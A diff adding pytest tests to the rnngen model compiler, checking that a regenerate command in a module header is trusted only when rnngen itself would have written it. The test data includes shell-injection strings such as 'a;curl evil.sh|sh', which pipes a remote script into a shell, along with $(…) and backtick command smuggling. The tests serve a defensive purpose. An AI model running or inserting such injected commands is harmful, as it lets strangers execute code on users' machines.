@@ -34,7 +34,7 @@ from rnngen.cli import main
 from rnngen.compile import compile_model
 from rnngen.description import library
 from rnngen.document import MOST_BYTES
-from rnngen.runtime.seal import FORMAT, NO_DIGEST, condition, sealed
+from rnngen.runtime.seal import FORMAT, NO_DIGEST, condition, renewal, sealed
 from rnngen.source import Source
 
 STEP = "n  = tanh(W @ x + U @ h + b)\nh' = (1 - alpha) * h + alpha * n"
@@ -443,6 +443,47 @@ def test_fault_24(run, tmp_path):
     assert "rnn.py was edited by hand: rnngen compile --force rnn" in run("doctor").stdout
     assert run("compile", "--force", "rnn").exit_code == 0
     assert "edited" not in run("doctor", path).stdout
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rnngen compile a;curl evil.sh|sh",
+        "rnngen compile $(touch a)",
+        "rnngen compile `touch a`",
+        "rnngen compile 'a'; touch b; 'c'",
+        "rnngen compile 'a' b",
+        "rnngen compile a b",
+        "rnngen compile $'a'$(touch b)'c'",
+        "rnngen compile $'a\\' ; touch b'",
+        "rnngen compile $'a\\x2'",
+        "rnngen compile -o",
+        "rnngen compile --force a",
+        "rnngen compile ../a.toml",
+        "rnngen compile ~root",
+        "rnngen compile 'a!b'",
+        "rnngen compile a\\",
+        "rnngen compile ",
+        "sh a",
+    ],
+)
+def test_a_command_that_rnngen_would_not_write_is_told_to_nobody(run, tmp_path, command):
+    """The header of a module from a stranger may say anything."""
+    text = re.sub("^# Renew:  .*$", lambda match: f"# Renew:  {command}", RNN, flags=re.MULTILINE)
+    (warning,) = importing(tmp_path / "rnn.py", text)
+    assert warning.endswith("comes back by: rnngen compile --force MODEL")
+    assert "was edited by hand: rnngen compile --force MODEL\n" in run("doctor", tmp_path).stdout
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["a.toml", "-a.toml", "my cell.toml", "a'b.toml", "\xe4.toml", "a$(b).toml", "~a", "-", "a\\b", "#", "a@b+c,d"],
+)
+def test_the_command_of_any_file_is_found_again(name):
+    """As it stands in the header."""
+    module = compile_model(Source(name, library()["rnn"].text + "\n")).text
+    command = re.search(r"^# Renew:  (.*)$", module, re.MULTILINE)[1]
+    assert renewal(module.encode()) == command
 
 
 def test_fault_24_without_the_text(tmp_path):
